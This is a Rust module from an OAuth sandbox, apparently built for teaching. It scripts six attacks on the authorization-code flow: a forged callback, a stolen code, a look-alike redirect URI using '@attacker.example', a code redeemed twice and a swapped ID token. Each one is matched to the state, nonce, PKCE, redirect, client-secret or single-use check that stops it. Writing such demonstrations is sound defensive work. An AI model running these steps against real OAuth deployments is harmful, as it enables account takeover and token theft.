//! Attacks on the sandbox and on this client, as data, and what is done in each. Which check stops which is a table; that it
//! is true, a test shows.
//!
//! Nothing here sends anything: each step is handed to the code that runs the attack, and every request is one that the sandbox
//! gets from anyone. The victim's side is the client of this page itself.

use serde_json::Value;

mod staging;

pub use staging::run_as_set;

use crate::{
    glass::{Check, Entry, Switches},
    oauth::{
        authorization_request::AuthorizationRequest,
        callback::{Callback, CallbackError, VerifiedCallback},
        form_encoding,
        http::{HttpRequest, HttpResponse, Method, header},
        id_token,
        secret::{AccessToken, AuthorizationCode, Body, ClientSecret, IdToken, Query, SecretUrl},
        simulated::{ClientChecks, SimulatedRequest},
        token_request::{self, ClientAuth},
        token_response::{self, TokenResponse},
    },
};

/// Who is attacked: the email address that signs in to the sandbox.
pub const VICTIM: &str = "victim@sandbox.example";

/// Who attacks.
pub const ATTACKER: &str = "mallory@sandbox.example";

/// What is tried.
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
pub enum Attack {
    /// The victim's page is sent a callback with the attacker's code, and is then signed in to the attacker's account.
    ForgedCallback,
    /// A thief redeems the victim's code before the victim does.
    StolenCode,
    /// The code is sent to an address that only looks like the page's.
    LookAlikeCode,
    /// The same, and the code is redeemed there. The attacker began the flow, and so has the verifier.
    LookAlikeToken,
    /// The client redeems one code twice.
    CodeTwice,
    /// The ID token of another session is put in place of this one's.
    SwappedIdToken,
}

/// A check that can be switched off: the first two in the page, the others in the sandbox.
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
pub enum Lock {
    /// The page's check of the state.
    State,
    /// The page's check of the nonce.
    Nonce,
    /// The sandbox's check of the redirect URI.
    ExactRedirectUri,
    /// The sandbox's check of the verifier.
    Pkce,
    /// The sandbox's check of the client's secret.
    ClientAuthentication,
    /// The sandbox takes a code once.
    SingleUse,
}

impl Lock {
    /// All of them.
    pub const ALL: [Self; 6] =
        [Self::State, Self::Nonce, Self::ExactRedirectUri, Self::Pkce, Self::ClientAuthentication, Self::SingleUse];

    /// Whether it is on.
    pub fn is_on(self, switches: Switches, checks: ClientChecks) -> bool {
        match self {
            Self::State => checks.state,
            Self::Nonce => checks.nonce,
            Self::ExactRedirectUri => switches.exact_redirect_uri,
            Self::Pkce => switches.pkce,
            Self::ClientAuthentication => switches.client_authentication,
            Self::SingleUse => switches.single_use,
        }
    }

    /// Switches it.
    pub fn set(self, switches: &mut Switches, checks: &mut ClientChecks, is_on: bool) {
        *match self {
            Self::State => &mut checks.state,
            Self::Nonce => &mut checks.nonce,
            Self::ExactRedirectUri => &mut switches.exact_redirect_uri,
            Self::Pkce => &mut switches.pkce,
            Self::ClientAuthentication => &mut switches.client_authentication,
            Self::SingleUse => &mut switches.single_use,
        } = is_on;
    }
}

impl Attack {
    /// All of them, in the order in which they are told.
    pub const ALL: [Self; 6] = [
        Self::ForgedCallback,
        Self::StolenCode,
        Self::LookAlikeCode,
        Self::LookAlikeToken,
        Self::CodeTwice,
        Self::SwappedIdToken,
    ];

    /// Its name in ids and tables.
    pub fn id(self) -> &'static str {
        match self {
            Self::ForgedCallback => "forged-callback",
            Self::StolenCode => "stolen-code",
            Self::LookAlikeCode => "look-alike-code",
            Self::LookAlikeToken => "look-alike-token",
            Self::CodeTwice => "code-twice",
            Self::SwappedIdToken => "swapped-id-token",
        }
    }

    /// The checks that each stop it alone: it succeeds exactly where all of them are off.
    pub fn locks(self) -> &'static [Lock] {
        match self {
            Self::ForgedCallback => &[Lock::State, Lock::Pkce],
            Self::StolenCode => &[Lock::Pkce, Lock::ClientAuthentication],
            Self::LookAlikeCode => &[Lock::ExactRedirectUri],
            Self::LookAlikeToken => &[Lock::ExactRedirectUri, Lock::ClientAuthentication],
            Self::CodeTwice => &[Lock::SingleUse],
            Self::SwappedIdToken => &[Lock::Nonce],
        }
    }
}

/// Whom the attack is about, and what each brings.
#[derive(Clone, Debug)]
pub struct Scene {
    /// The request that the victim's page sent. It asks for an ID token, for the rooms and for the user's profile.
    pub victim: AuthorizationRequest,
    /// A request of the attacker's own to the same client: another state, nonce and verifier, and nothing else.
    pub attacker: AuthorizationRequest,
    /// The client's secret, which the attacker does not have.
    pub secret: ClientSecret,
    /// The page's checks.
    pub checks: ClientChecks,
    /// The time, in seconds since 1970-01-01T00:00:00Z.
    pub now_secs: u64,
}

/// What the sandbox answered, and what it checked before.
#[derive(Clone, Debug)]
pub struct Answer {
    /// The answer.
    pub response: HttpResponse,
    /// The checks, where there were any.
    pub entry: Option<Entry>,
}

/// How an attack ended.
#[derive(Clone, Debug, PartialEq, Eq)]
pub enum Outcome {
    /// It succeeded, and this is what the attacker has.
    Succeeded(Loot),
    /// It was stopped.
    Stopped(Stop),
}

/// What stopped it.
#[derive(Clone, Debug, PartialEq, Eq)]
pub enum Stop {
    /// A check of the sandbox's.
    Server(Check),
    /// A check of the page's when the callback came.
    Callback(Box<CallbackError>),
    /// A check of the page's when the ID token came: the claim.
    IdToken(&'static str),
    /// None that this is about: an answer with this status that has nothing to do with the attack; 0 for none at all.
    Unexpected(u16),
}

/// What a successful attack brings.
#[derive(Clone, Debug, Default, PartialEq, Eq)]
pub struct Loot {
    /// The code.
    pub code: Option<AuthorizationCode>,
    /// The access token.
    pub access_token: Option<AccessToken>,
    /// The ID token that was believed.
    pub id_token: Option<IdToken>,
    /// Whose account it is.
    pub account: Option<String>,
    /// The rooms that it opens.
    pub rooms: Vec<String>,
}

/// Runs an attack; `send` has the sandbox answer a request, with the redirect readable.
pub async fn run(attack: Attack, scene: &Scene, mut send: impl AsyncFnMut(HttpRequest) -> Option<Answer>) -> Outcome {
    let actor = &mut Actor { scene, send: &mut send };
    let result = match attack {
        Attack::ForgedCallback => actor.forge_callback().await,
        Attack::StolenCode => actor.steal_code().await,
        Attack::LookAlikeCode => actor.lure_code().await.map(|code| Loot { code: Some(code), ..Loot::default() }),
        Attack::LookAlikeToken => actor.lure_token().await,
        Attack::CodeTwice => actor.redeem_twice().await,
        Attack::SwappedIdToken => actor.swap_id_token().await,
    };
    result.map_or_else(Outcome::Stopped, Outcome::Succeeded)
}

struct Actor<'a, S> {
    scene: &'a Scene,
    send: &'a mut S,
}

impl<S: AsyncFnMut(HttpRequest) -> Option<Answer>> Actor<'_, S> {
    /// The attacker signs in for a code, and has the victim's browser open the callback with it.
    async fn forge_callback(&mut self) -> Result<Loot, Stop> {
        let scene = self.scene;
        let callback = self.sign_in(scene.attacker.url().expose(), ATTACKER).await?;
        let verified = self.verified(&scene.victim, &callback)?;
        let tokens = self.exchange(&verified).await?;
        self.loot(tokens).await
    }

    /// The thief has read the code somewhere on the way, and knows the client's public values.
    async fn steal_code(&mut self) -> Result<Loot, Stop> {
        let scene = self.scene;
        let callback = self.sign_in(scene.victim.url().expose(), VICTIM).await?;
        let code = code_in(&callback)?;
        let form = [
            ("grant_type", "authorization_code"),
            ("client_id", &scene.victim.client_id),
            ("redirect_uri", scene.victim.redirect_uri.as_str()),
            ("code", code.expose()),
        ];
        let tokens = self.redeem(&form).await?;
        self.loot(tokens).await
    }

    /// The victim follows a link of the attacker's, and signs in at the right place.
    async fn lure_code(&mut self) -> Result<AuthorizationCode, Stop> {
        let request = &self.scene.attacker;
        let (right, alike) = (request.redirect_uri.as_str(), look_alike(request));
        let (from, to) = (form_encoding::encoded_word(right), form_encoding::encoded_word(&alike));
        let url = request.url();
        let (before, after) = url.expose().split_once(&from).ok_or(Stop::Unexpected(0))?;
        code_in(&self.sign_in(SecretUrl::of(&[before, &to, after]).expose(), VICTIM).await?)
    }

    async fn lure_token(&mut self) -> Result<Loot, Stop> {
        let code = self.lure_code().await?;
        let request = &self.scene.attacker;
        let alike = look_alike(request);
        let verifier = request.code_verifier.as_ref().map(|verifier| ("code_verifier", verifier.expose()));
        let form: Vec<(&str, &str)> = [
            ("grant_type", "authorization_code"),
            ("client_id", &request.client_id),
            ("redirect_uri", &alike),
            ("code", code.expose()),
        ]
        .into_iter()
        .chain(verifier)
        .collect();
        let tokens = self.redeem(&form).await?;
        self.loot(tokens).await
    }

    async fn redeem_twice(&mut self) -> Result<Loot, Stop> {
        let scene = self.scene;
        let callback = self.sign_in(scene.victim.url().expose(), VICTIM).await?;
        let verified = self.verified(&scene.victim, &callback)?;
        let first = self.exchange(&verified).await?;
        let second = self.exchange(&verified).await?;
        // Two tokens for one code: the first has to work still.
        self.loot(first).await?;
        self.loot(second).await
    }

    /// The attacker signs in at the same client, and puts the ID token of that session into the victim's answer.
    async fn swap_id_token(&mut self) -> Result<Loot, Stop> {
        let scene = self.scene;
        let callback = self.sign_in(scene.attacker.url().expose(), ATTACKER).await?;
        let theirs = self.verified(&scene.attacker, &callback)?;
        let other = self.exchange(&theirs).await?.id_token.ok_or(Stop::Unexpected(200))?;
        let callback = self.sign_in(scene.victim.url().expose(), VICTIM).await?;
        let verified = self.verified(&scene.victim, &callback)?;
        let tokens = TokenResponse { id_token: Some(other), ..self.exchange(&verified).await? };
        self.believe_id_token(&verified, &tokens)?;
        self.loot(tokens).await
    }

    /// What the page does with an ID token, except for the signature: an attacker who swaps tokens doesn't forge one.
    fn believe_id_token(&self, verified: &VerifiedCallback, tokens: &TokenResponse) -> Result<(), Stop> {
        let token = tokens.id_token.as_ref().ok_or(Stop::Unexpected(200))?;
        let decoded = id_token::decode(token).map_err(|_| Stop::Unexpected(200))?;
        let request = verified.request();
        let expected = id_token::Expected {
            issuers: &request.endpoints.facts.id_token_issuers,
            client_id: &request.client_id,
            nonce: request.nonce.as_ref(),
            first: None,
            max_age: None,
            now_secs: self.scene.now_secs,
        };
        let unchecked = SimulatedRequest::of(request).and_then(|it| it.nonce_unchecked(self.scene.checks));
        let checks = match unchecked {
            Some(unchecked) => id_token::check_but_nonce(&decoded, expected, unchecked),
            None => id_token::check(&decoded, expected),
        };
        checks.iter().find(|check| !check.is_right()).map_or(Ok(()), |check| Err(Stop::IdToken(check.what)))
    }

    /// Signs in and accepts. Returns where the browser is sent then.
    async fn sign_in(&mut self, url: &str, email: &str) -> Result<SecretUrl, Stop> {
        let url = SecretUrl::of(&[url, "&email=", &form_encoding::encoded_word(email)]);
        let headers = vec![header("content-type", FORM)];
        let request = HttpRequest { method: Method::POST, url, headers, body: Body::new("decision=accept") };
        let response = self.ask(request, 303).await?;
        response.header("location").map(SecretUrl::from).ok_or(Stop::Unexpected(303))
    }

    /// What the victim's page makes of a callback.
    fn verified(&self, request: &AuthorizationRequest, callback: &SecretUrl) -> Result<VerifiedCallback, Stop> {
        let callback = Callback::parse(&callback.query()).ok_or(Stop::Unexpected(303))?;
        let verified = match SimulatedRequest::of(request) {
            Some(simulated) => simulated.verify(callback, self.scene.checks),
            None => callback.verify(Some(request.clone())),
        };
        verified.map_err(|error| Stop::Callback(Box::new(error)))
    }

    /// The page's own exchange.
    async fn exchange(&mut self, verified: &VerifiedCallback) -> Result<TokenResponse, Stop> {
        let request = token_request::exchange(verified, ClientAuth::Post, &self.scene.secret).into_http();
        let response = self.ask(request, 200).await?;
        token_response::parse(&response).map_err(|_| Stop::Unexpected(200))
    }

    /// An exchange by someone who has no secret.
    async fn redeem(&mut self, form: &[(&str, &str)]) -> Result<TokenResponse, Stop> {
        let url = self.scene.victim.endpoints.token.as_str().into();
        let body = Body::new(form_encoding::encoded(form.iter().copied()));
        let headers = vec![header("content-type", FORM)];
        let response = self.ask(HttpRequest { method: Method::POST, url, headers, body }, 200).await?;
        token_response::parse(&response).map_err(|_| Stop::Unexpected(200))
    }

    /// What a token opens: whose account, and which rooms.
    async fn loot(&mut self, tokens: TokenResponse) -> Result<Loot, Stop> {
        let person = self.get("/people/me", &tokens.access_token).await?;
        let rooms = self.get("/rooms", &tokens.access_token).await?;
        let text = |value: &Value| value.as_str().map(str::to_owned);
        let titles = rooms["items"].as_array().map(Vec::as_slice).unwrap_or_default();
        Ok(Loot {
            code: None,
            account: text(&person["emails"][0]),
            rooms: titles.iter().filter_map(|room| text(&room["title"])).collect(),
            access_token: Some(tokens.access_token),
            id_token: tokens.id_token,
        })
    }

    async fn get(&mut self, path: &str, token: &AccessToken) -> Result<Value, Stop> {
        let base = self.scene.victim.endpoints.api_base.as_ref().ok_or(Stop::Unexpected(0))?;
        let headers = vec![header("authorization", ["Bearer ", token.expose()].concat())];
        let url = SecretUrl::of(&[base.as_str(), path]);
        let response = self.ask(HttpRequest { method: Method::GET, url, headers, body: Body::default() }, 200).await?;
        serde_json::from_str(response.body.expose()).map_err(|_| Stop::Unexpected(200))
    }

    /// The answer to a request, if it has this status; else the check that it failed at.
    async fn ask(&mut self, request: HttpRequest, status: u16) -> Result<HttpResponse, Stop> {
        let Answer { response, entry } = (self.send)(request).await.ok_or(Stop::Unexpected(0))?;
        match entry.and_then(|entry| entry.failed()) {
            _ if response.status == status => Ok(response),
            Some(check) => Err(Stop::Server(check)),
            None => Err(Stop::Unexpected(response.status)),
        }
    }
}

const FORM: &str = "application/x-www-form-urlencoded";

/// An address that begins as the client's does, and belongs to somebody else: what comes before the at sign is no host.
pub fn look_alike(request: &AuthorizationRequest) -> String {
    let right = request.redirect_uri.as_str();
    let host = right.find("//").map_or(0, |at| at + "//".len());
    let end = right[host..].find('/').map_or(right.len(), |end| host + end);
    [&right[..end], "@attacker.example", &right[end..]].concat()
}

fn code_in(callback: &SecretUrl) -> Result<AuthorizationCode, Stop> {
    let query: Query = callback.query();
    let text = query.expose();
    form_encoding::pairs(text.strip_prefix('?').unwrap_or(text))
        .find(|(name, _)| name.as_str() == "code")
        .map(|(_, value)| AuthorizationCode::new(value.as_str()))
        .ok_or(Stop::Unexpected(303))
}
